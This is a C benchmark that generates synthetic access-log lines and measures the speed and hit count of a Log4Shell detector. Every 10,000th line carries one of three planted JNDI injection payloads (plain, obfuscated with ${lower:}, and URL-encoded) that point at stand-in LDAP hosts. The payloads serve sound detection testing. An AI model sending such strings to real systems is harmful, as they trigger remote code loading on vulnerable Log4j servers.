/*
 * hunt-l4s.c - throughput of the Log4Shell detector on generated access-log
 * lines: combined-format lines with ordinary paths, query strings (%20, &),
 * referrers and browser user agents, and one planted payload every 10,000
 * lines. Prints MB/s of kb_l4s_scan over the whole buffer (one core) and the
 * hits found. Usage: hunt-l4s [MEGABYTES]   (default 256)
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "koban/log4shell.h"

static unsigned long long rng = 88172645463325252ull;
static unsigned rnd(unsigned n)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (unsigned)(rng % n);
}

int main(int argc, char **argv)
{
	size_t mb = argc > 1 ? (size_t)atol(argv[1]) : 256;
	size_t cap = mb << 20;
	char *buf = malloc(cap + 4096);
	if (!buf)
		return 1;
	static const char *paths[] = {"/", "/index.html", "/api/v1/orders", "/static/app.js",
	                              "/images/logo.png", "/search", "/login", "/cart/add",
	                              "/wp-content/uploads/2021/12/photo.jpg", "/healthz"};
	static const char *uas[] = {
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.1 Safari/605.1.15",
		"curl/7.79.1", "Googlebot/2.1 (+http://www.google.com/bot.html)",
		"Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0"};
	static const char *payloads[] = {"${jndi:ldap://203.0.113.7:1389/a}",
	                                 "${${lower:j}ndi:${lower:l}dap://x.example/o}",
	                                 "%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D"};
	size_t len = 0, lines = 0, planted = 0;
	while (len < cap) {
		char q[128] = "";
		if (rnd(3) == 0)
			snprintf(q, sizeof q, "?q=red%%20shoes%%20size%%20%u&page=%u&sort=price", rnd(50), rnd(20));
		const char *pl = "";
		if (lines % 10000 == 9999) {
			pl = payloads[planted++ % 3];
		}
		len += (size_t)sprintf(buf + len,
		                       "%u.%u.%u.%u - - [12/Dec/2021:%02u:%02u:%02u +0000] \"GET %s%s%s HTTP/1.1\" %u %u \"https://shop.example.com%s\" \"%s\"\n",
		                       rnd(223) + 1, rnd(256), rnd(256), rnd(256), rnd(24), rnd(60), rnd(60),
		                       paths[rnd(10)], q, pl, rnd(10) ? 200 : 404, rnd(90000) + 200,
		                       paths[rnd(10)], uas[rnd(5)]);
		lines++;
	}
	kb_l4s *d = kb_l4s_new();
	if (!d)
		return 1;
	struct timespec t0, t1;
	size_t hits = 0;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (size_t pos = 0; pos < len;) {
		char *nl = memchr(buf + pos, '\n', len - pos);
		size_t e = nl ? (size_t)(nl - buf) : len;
		const kb_l4s_hit *h;
		size_t n = 0;
		if (kb_l4s_scan(d, buf + pos, e - pos, &h, &n) == 0)
			hits += n;
		pos = e + 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	double s = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	printf("hunt-l4s: %zu lines, %.1f MB in %.3f s: %.0f MB/s; %zu hits of %zu planted\n", lines,
	       (double)len / 1e6, s, (double)len / 1e6 / s, hits, planted);
	kb_l4s_free(d);
	free(buf);
	return hits == planted ? 0 : 1;
}
